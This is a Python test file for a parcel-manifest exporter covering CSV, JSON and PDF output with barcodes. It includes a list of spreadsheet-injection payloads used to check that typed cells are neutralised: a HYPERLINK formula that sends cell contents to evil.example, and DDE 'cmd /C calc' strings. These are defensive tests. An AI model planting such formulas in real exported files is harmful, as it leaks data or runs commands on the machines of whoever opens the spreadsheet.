"""Manifest CSV and JSON (FORMATS.md), and the printable PDF with its barcodes."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from delivery.manifests import (
    CSV_COLUMNS,
    TYPED_COLUMNS,
    csv_document,
    csv_header,
    csv_rows,
    json_document,
    json_item,
    json_prefix,
    json_suffix,
    render_manifest_pdf,
    spreadsheet_safe,
)
from delivery.s10 import make_tracking_number

HEADER = "manifest_number,tracking_number,invoice_code,invoice_number,recipient,phone,address_line1,city,province,postal_code,country,created_at\r\n"
CREATED = datetime(2025, 3, 1, 16, 30, 5, 123000, tzinfo=timezone(timedelta(hours=8)))


def row(i: int = 0, **changes: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "manifest_number": "M2025030100001",
        "tracking_number": make_tracking_number("RR", 47312482 + i, "CN"),
        "invoice_code": "440125000001",
        "invoice_number": i + 1,
        "recipient": "张三",
        "phone": "+8613800138000",
        "address_line1": "天河区体育西路191号",
        "city": "广州市",
        "province": "广东省",
        "postal_code": "510620",
        "country": "CN",
        "created_at": CREATED,
    }
    base.update(changes)
    return base


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_header_is_exactly_formats_md() -> None:
    assert csv_header() == HEADER
    assert ",".join(CSV_COLUMNS) + "\r\n" == HEADER


def test_a_row_as_text() -> None:
    text = "".join(csv_rows([row()]))
    assert text == (
        'M2025030100001,RR473124829CN,440125000001,00000001,"张三",+8613800138000,"天河区体育西路191号",'
        '"广州市","广东省","510620","CN",2025-03-01T08:30:05.123000Z\r\n'
    )


def test_document_has_no_bom_and_null_phone_is_empty() -> None:
    body = "".join(csv_document([row(phone=None)])).encode("utf-8")
    assert body.startswith(b"manifest_number,")
    assert parse(body.decode())[1][5] == ""


def test_awkward_names_are_quoted_and_read_back() -> None:
    name = 'Li, "Big" Wang\r\nline two\nthree'
    text = "".join(csv_rows([row(recipient=name, address_line1=" spaced ")]))
    assert '"Li, ""Big"" Wang\r\nline two\nthree"' in text
    assert parse(text)[0][4] == name
    assert parse(text)[0][6] == " spaced "


def test_rows_are_chunked() -> None:
    chunks = list(csv_rows((row(i) for i in range(1201)), chunk_rows=500))
    assert [c.count("\r\n") for c in chunks] == [500, 500, 201]
    assert list(csv_rows([])) == []


# Awkward characters only: a full unicode `st.text()` costs seconds of table building on a fresh checkout.
awkward = st.text(alphabet="a Z,;\"'\r\n\t中文é€\u2028=+-@", max_size=30)


@given(st.lists(st.fixed_dictionaries({name: awkward for name in CSV_COLUMNS if name != "created_at"}), max_size=5))
def test_csv_reads_back_to_the_input(items: list[dict[str, str]]) -> None:
    rows = [{**item, "created_at": CREATED} for item in items]
    parsed = parse(csv_header() + "".join(csv_rows(rows, chunk_rows=2)))
    assert parsed[0] == list(CSV_COLUMNS)
    shown = [{n: spreadsheet_safe(v) if n in TYPED_COLUMNS else v for n, v in r.items()} for r in rows]
    assert parsed[1:] == [[*(r[n] for n in CSV_COLUMNS[:-1]), "2025-03-01T08:30:05.123000Z"] for r in shown]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_typed_cell_that_starts_a_formula_is_text_in_a_spreadsheet(formula: str) -> None:
    """OWASP CSV Injection: what a buyer typed comes out quoted, behind a single quote, in every typed column;
    read back, the cell is the typed text with that quote in front and nothing else changed."""
    typed = dict.fromkeys(TYPED_COLUMNS, formula)
    text = "".join(csv_rows([row(**typed)]))
    [cells] = parse(text)
    for name in TYPED_COLUMNS:
        assert cells[CSV_COLUMNS.index(name)] == "'" + formula
    assert "\"'" + formula.replace('"', '""') + '"' in text  # the neutralised field stays quoted
    assert cells[CSV_COLUMNS.index("phone")] == "+8613800138000"  # an E.164 phone is a number, not a formula


@given(st.lists(st.fixed_dictionaries({"recipient": awkward, "phone": st.none() | awkward}), max_size=5))
def test_json_document_parses(items: list[dict[str, Any]]) -> None:
    manifest = {"id": "m-1", "manifest_number": "M1", "status": "closed", "closed_at": CREATED}
    rows = [row(i, **item) for i, item in enumerate(items)]
    doc = json.loads("".join(json_document(manifest, rows)))
    assert doc["manifest"] == {**manifest, "closed_at": "2025-03-01T08:30:05.123000Z"}
    assert [(i["recipient"], i["phone"]) for i in doc["items"]] == [(r["recipient"], r["phone"]) for r in rows]
    assert all(list(i) == list(CSV_COLUMNS) for i in doc["items"])


def test_json_pieces() -> None:
    text = json_prefix({"manifest_number": "M1"}) + json_item(row(), True) + json_item(row(1), False) + json_suffix()
    items = json.loads(text)["items"]
    assert [i["invoice_number"] for i in items] == ["00000001", "00000002"]
    assert json.loads(json_prefix({}) + json_suffix()) == {"manifest": {}, "items": []}


# --- PDF ---

PDF_HEADER = {
    "manifest_number": "M2025030100001",
    "operator_name": "中国邮政 广州",
    "status": "closed",
    "created_at": CREATED,
    "closed_at": CREATED,
}


@pytest.fixture(scope="module")
def manifest_pdf(tmp_path_factory: pytest.TempPathFactory) -> Path:
    long_name = "深圳市某某电子商务有限公司采购部 王小明" * 3
    rows = [
        row(i, recipient=long_name if i == 3 else "张三", phone=None if i == 4 else "+8613800138000") for i in range(23)
    ]
    path = tmp_path_factory.mktemp("manifest") / "manifest.pdf"
    with path.open("wb") as out:
        assert render_manifest_pdf(PDF_HEADER, iter(rows), out) == 23
    return path


def test_pdf_has_every_tracking_number_and_the_count(manifest_pdf: Path) -> None:
    from pypdf import PdfReader

    reader = PdfReader(manifest_pdf)
    text = "".join(page.extract_text() for page in reader.pages)
    for i in range(23):
        assert make_tracking_number("RR", 47312482 + i, "CN") in text
    assert "Total items: 23" in text
    assert "张三" in text  # the CJK font is embedded with a usable text layer


def _decode(pdf: Path, page: int, tmp_path: Path) -> set[str]:
    import zxingcpp
    from PIL import Image

    if shutil.which("pdftoppm") is None:
        pytest.skip("pdftoppm (poppler-utils) is not installed")
    prefix = tmp_path / f"p{page}"
    subprocess.run(
        ["pdftoppm", "-r", "200", "-png", "-f", str(page), "-l", str(page), "-singlefile", pdf, prefix], check=True
    )
    with Image.open(f"{prefix}.png") as image:
        return {b.text for b in zxingcpp.read_barcodes(image, formats=zxingcpp.BarcodeFormat.Code128)}


def test_pdf_barcodes_decode(manifest_pdf: Path, tmp_path: Path) -> None:
    from pypdf import PdfReader

    first = _decode(manifest_pdf, 1, tmp_path)
    assert first == {make_tracking_number("RR", 47312482 + i, "CN") for i in range(10)}  # 10 rows a page
    last = _decode(manifest_pdf, len(PdfReader(manifest_pdf).pages), tmp_path)
    assert "M2025030100001" in last


def test_empty_manifest_still_prints_a_summary() -> None:
    from pypdf import PdfReader

    out = io.BytesIO()
    assert render_manifest_pdf({"manifest_number": "M1", "created_at": datetime.now(UTC)}, [], out) == 0
    reader = PdfReader(io.BytesIO(out.getvalue()))
    assert len(reader.pages) == 1
    assert "Total items: 0" in reader.pages[0].extract_text()
